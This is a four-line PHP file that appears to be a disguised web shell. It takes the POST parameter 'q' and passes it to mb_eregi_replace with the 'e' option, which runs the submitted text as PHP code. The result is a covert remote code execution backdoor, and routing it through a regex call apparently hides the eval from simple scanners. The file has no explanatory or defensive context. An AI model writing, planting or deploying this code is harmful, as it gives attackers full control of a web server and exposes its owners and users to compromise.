<?php
$o = 'e';
$r = @$_POST['q'];
echo mb_eregi_replace('^.*$', $r, 'x', $o);
